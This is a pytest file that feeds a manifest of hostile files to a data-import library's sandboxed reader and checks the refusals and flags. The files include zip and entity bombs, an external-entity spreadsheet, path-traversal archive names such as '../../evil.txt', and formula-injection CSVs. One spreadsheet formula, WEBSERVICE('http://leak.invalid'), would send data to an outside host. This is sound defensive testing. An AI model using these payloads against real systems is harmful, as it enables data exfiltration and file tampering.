"""Every hostile file, through the real child process, ends as the manifest says."""

import base64
import csv
import hashlib
import re
import resource
import sys
import time
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from tawthiq.errors import SourceRefused
from tawthiq.ingest.child import read_in_child
from tawthiq.ingest.source import RAW_BYTES, UNREADABLE, Reading, SourceTable
from tawthiq.language import LANGUAGES, sentence
from tawthiq.model.strict_json import parse_entry

FOLDER = Path(__file__).parent / "hostile"
with (FOLDER / "manifest.csv").open(encoding="utf-8", newline="") as _file:
    MANIFEST = list(csv.DictReader(_file))
IMPORTED = [row for row in MANIFEST if row["read_as"] == "import file"]
ENTRIES = [row for row in MANIFEST if row["read_as"] == "ledger entry"]

# What a refusal has to name: `error_must_name` of the manifest as values.
NAMED: dict[str, dict[str, Any]] = {
    "sparse.xlsx": {"sheet": "S", "box": "A1:XFD1048576", "cells": 17_179_869_184},
    "zip_bomb.xlsx": {"member": "xl/worksheets/sheet1.xml", "size": 262_000_133, "ratio": 398},
    "entity_bomb.xlsx": {"member": "xl/worksheets/sheet1.xml"},
    "external_entity.xlsx": {"member": "xl/worksheets/sheet1.xml"},
    "lying_sizes.xlsx": {"member": "xl/worksheets/sheet1.xml", "declared": 1000},
    "duplicate_member.xlsx": {"member": "xl/worksheets/sheet1.xml"},
    "not_xlsx_ole.xlsx": {},
    "truncated.xlsx": {},
    "huge_field.csv": {"row": 3, "column": "note", "length": 200_000, "limit": 131_072},
    "utf16be_no_bom.csv": {"offset": 0},
    "mixed_encoding.csv": {"row": 3, "offset": 80},
    "truncated_utf8.csv": {"row": 3, "offset": 86},
    "surrogates.csv": {"row": 2, "offset": 27},
    "duplicate_headers.csv": {"columns": [2, 3], "name": "name"},
    "headers_equal_after_folding.csv": {"columns": [2, 3, 4, 5]},
    "empty_header.csv": {"columns": [2]},
    "unterminated_quote.csv": {"row": 3},
    "semicolon.csv": {"columns": 1, "suspected": "semicolon"},
    "empty.csv": {},
    "only_bom.csv": {},
    "wide_header.csv": {"row": 1, "columns": 20_000},
    "traversal.zip": {
        "members": ["../../evil.txt", "/abs/evil.txt", "C:\\evil.txt", "..\\..\\evil.txt", "ok/../../evil2.txt", "link"]
    },
    "traversal.tar": {"members": ["../../evil.txt", "/abs/evil.txt", "ln", "ln/evil.txt", "hl", "dev", "fifo"]},
    "nested.zip": {"member": "level5.zip"},
    "hostile_names.zip": {
        "equal": ["List.csv", "list.csv", "e\u0301.csv", "\u00e9.csv"],
        "control": ["قائمة\u202egpj.csv", "a\x00b.csv"],
        "reserved": ["CON.csv", "trail. "],
        "long": ["n" * 300 + ".csv"],
    },
    "gzip_bomb.csv.gz": {"member": "gzip_bomb.csv"},
    "not_a_zip.zip": {"extension": "zip"},
    "deep.json": {"limit": 8},
    "deep_object.json": {"limit": 8},
    "duplicate_keys.json": {"key": "name"},
    "duplicate_keys_escaped.json": {"key": "name"},
    "nan.json": {"constant": "NaN"},
    "infinity.json": {"constant": "-Infinity"},
    "overflow.json": {"number": "1e400"},
    "float.json": {"number": "1.0"},
    "big_integer.json": {"number": "9007199254740993"},
    "huge_integer.json": {"number": "9" * 40 + "… (5000)"},
    "minus_zero.json": {"number": "-0"},
    "lone_surrogate.json": {"key": "name"},
    "bom.json": {"offset": 0},
    "trailing.json": {"offset": 10},
    "invalid_utf8.json": {"offset": 9},
    "not_canonical_order.json": {"reason": "key_order"},
    "not_canonical_space.json": {"reason": "white_space"},
    "not_canonical_escape.json": {"reason": "escape"},
}

# What else is flagged, as (code, row, column); the manifest's notation differs from file to file.
FLAGS: dict[str, set[tuple[str, int, str]]] = {
    "formulas.xlsx": {
        ("formula", 2, "note"),
        ("formula", 3, "note"),
        ("text_starts_formula", 2, "name"),
        ("text_starts_formula", 3, "name"),
    },
    "hidden_merged_1904.xlsx": {
        ("hidden_row", 3, ""),
        ("hidden_column", 0, "phone"),
        ("very_hidden_sheet", 0, ""),
        ("date_system_1904", 0, ""),
        ("merged", 6, ""),
        # Beyond the manifest: that all sheets were read, and that the hidden one has no header.
        ("several_sheets", 0, ""),
        ("sheet_without_header", 0, ""),
    },
    "bidi_controls.csv": {
        *(("format_control", 1 + row, "name") for row in (1, 2, 3, 4, 5, 7, 8, 9, 10, 11, 13, 19)),
        ("tatweel", 13, "name"),
        ("variation_selector", 15, "name"),
        ("not_nfc", 16, "name"),
        ("presentation_forms", 17, "name"),
        ("mixed_script", 19, "name"),
        ("object_replacement", 21, "name"),
    },
    "nul_bytes.csv": {("control_character", 3, "name")},
    "control_characters.csv": {("control_character", 3, "name"), ("control_character", 3, "note")},
    "cp1256.csv": {("encoding_guessed", 0, "")},
    "ragged.csv": {("row_width", 3, ""), ("row_width", 4, "")},
    "quote_in_middle.csv": {("quote_stray", 3, "name")},
    "unicode_line_breaks.csv": {("unicode_line_break", 2, column) for column in ("name", "place", "note")},
    "header_only.csv": {("no_rows", 0, "")},
    # A soft hyphen is among the characters that the wrong encoding made.
    "mojibake.csv": {("mojibake_suspected", 2, "name"), ("format_control", 2, "name")},
}
RAISED_LATER = {"digits_and_dates.csv", "near_duplicate_rows.csv"}


@cache
def read(name: str, **how: Any) -> SourceTable:
    return read_in_child((FOLDER / name).read_bytes(), name, Reading(**how))


def all_flags(table: SourceTable) -> list[Any]:
    return [*table.flags, *(flag for row in table.rows for flag in row.flags)]


def check_sentences(code: str, values: dict[str, Any]) -> None:
    for language in LANGUAGES:
        said = sentence(code, values, language, isolate=True)
        assert "{" not in said
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e]", said)


@pytest.mark.parametrize("row", MANIFEST, ids=lambda row: row["file"])
def test_the_file_is_the_one_in_the_manifest(row: dict[str, str]) -> None:
    assert hashlib.sha256((FOLDER / row["file"]).read_bytes()).hexdigest() == row["sha256"]


@pytest.mark.parametrize("row", IMPORTED, ids=lambda row: row["file"])
def test_import_file(row: dict[str, str]) -> None:
    name = row["file"]
    begun = time.monotonic()
    if row["verdict"] == "reject":
        with pytest.raises(SourceRefused) as refused:
            read(name)
        assert refused.value.code == row["error_code"]
        said = refused.value.values
        assert {key: said[key] for key in NAMED[name]} == NAMED[name]
        check_sentences(refused.value.code, said)
    else:
        check_accepted(row, read(name))
    assert time.monotonic() - begun < 60


def check_accepted(row: dict[str, str], table: SourceTable) -> None:
    name = row["file"]
    good = [each for each in table.rows if not each.unreadable]
    if row["data_rows_expected"]:
        assert len(good) == int(row["data_rows_expected"])
    flags = all_flags(table)
    found = {(flag.code, flag.row, flag.column) for flag in flags}
    if name == "formula_injection.csv":
        expected = {("text_starts_formula", line, column) for line in range(2, 22) for column in ("name", "note")}
        # Rows 17 and 18 begin with a mark and a byte order mark, which are invisible as well.
        extra = {("format_control", line, column) for line in (17, 18) for column in ("name", "note")}
        assert found == expected | extra
    else:
        assert found == FLAGS.get(name, set())
    if row["verdict"] == "accept" or name in RAISED_LATER:
        assert not flags
    assert (len(good) < len(table.rows)) == (row["verdict"] == "accept-part")
    for each in flags:
        check_sentences(each.code, dict(each.values))
    for code, values in table.evidence:
        check_sentences(code, dict(values))


@pytest.mark.parametrize("row", ENTRIES, ids=lambda row: row["file"])
def test_ledger_entry(row: dict[str, str]) -> None:
    with pytest.raises(SourceRefused) as refused:
        parse_entry((FOLDER / row["file"]).read_bytes())
    assert refused.value.code == row["error_code"]
    assert {key: refused.value.values[key] for key in NAMED[row["file"]]} == NAMED[row["file"]]
    check_sentences(refused.value.code, refused.value.values)


def test_every_verdict_is_tested() -> None:
    assert {row["file"] for row in MANIFEST if row["verdict"] == "reject"} == set(NAMED)
    assert len(MANIFEST) == 66


def test_names_are_the_same_in_every_encoding() -> None:
    expected = [dict(row.fields) for row in read("utf8_sig.csv").rows]
    assert read("utf8_sig.csv").columns[0] == "id"
    for name, encoding in (("cp1256.csv", "cp1256"), ("utf16le_bom.csv", "utf-16")):
        table = read(name)
        assert table.encoding == encoding
        assert [dict(row.fields) for row in table.rows] == expected
    assert not all_flags(read("cp1256.csv", encoding="windows-1256"))
    told = read("utf16be_no_bom.csv", encoding="utf-16-be")
    assert [dict(row.fields) for row in told.rows] == expected


def test_what_cannot_be_read_is_kept() -> None:
    rows = {row.row: dict(row.fields) for row in read("ragged.csv").rows}
    assert rows[3] == {UNREADABLE: "2,فاطمة,بانياس"}
    assert rows[4] == {UNREADABLE: "3,علي,طرطوس,2025-03-09,note,extra1,extra2"}
    assert set(rows) == {2, 3, 4, 6}
    nul = next(row for row in read("nul_bytes.csv").rows if row.unreadable)
    kept = dict(nul.fields)
    assert base64.b64decode(kept[RAW_BYTES]) == "2,أح\x00مد,جبلة,2025-03-07,".encode()
    assert kept[UNREADABLE] == "2,أح\\u0000مد,جبلة,2025-03-07,"
    offset = (FOLDER / "nul_bytes.csv").read_bytes().index(0)
    assert nul.flags[0].values["offset"] == offset


def test_formula_and_cached_value_are_both_kept() -> None:
    table = read("formulas.xlsx")
    note = {row.row: dict(row.fields)["note"] for row in table.rows}
    assert note == {2: "3", 3: "x"}
    formulas = [flag.values["formula"] for row in table.rows for flag in row.flags if flag.code == "formula"]
    assert formulas == ["1+1", 'WEBSERVICE("http://leak.invalid")']


def test_hidden_sheets_are_read_and_numbers_are_no_dates() -> None:
    table = read("hidden_merged_1904.xlsx")
    places = [(row.sheet, row.row) for row in table.rows]
    assert places == [("list", 2), ("list", 3), ("list", 4), ("list", 6), ("hidden", 1)]
    assert dict(table.rows[0].fields)["date"] == "45723"
    assert [text for _, text in table.rows[4].fields] == ["004", "hidden person"]


def test_semicolons_are_read_when_they_are_told() -> None:
    table = read("semicolon.csv", delimiter="semicolon")
    assert len(table.rows) == 1
    assert len(table.columns) == 5


def test_text_is_kept_byte_for_byte() -> None:
    for name in ("formula_injection.csv", "bidi_controls.csv", "leading_zeros_big_numbers.csv"):
        with (FOLDER / name).open(encoding="utf-8", newline="") as file:
            expected = list(csv.reader(file))[1:]
        assert [[text for _, text in row.fields] for row in read(name).rows] == expected


def test_no_external_entity_is_looked_up() -> None:
    with pytest.raises(SourceRefused) as refused:
        read("external_entity.xlsx")
    assert Path("/etc/hostname").read_text(encoding="utf-8").strip() not in str(refused.value)


def test_the_parent_stays_small() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for name in ("zip_bomb.xlsx", "gzip_bomb.csv.gz", "sparse.xlsx", "entity_bomb.xlsx"):
        with pytest.raises(SourceRefused):
            read(name)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000 * (
        1024 if sys.platform == "darwin" else 1
    )
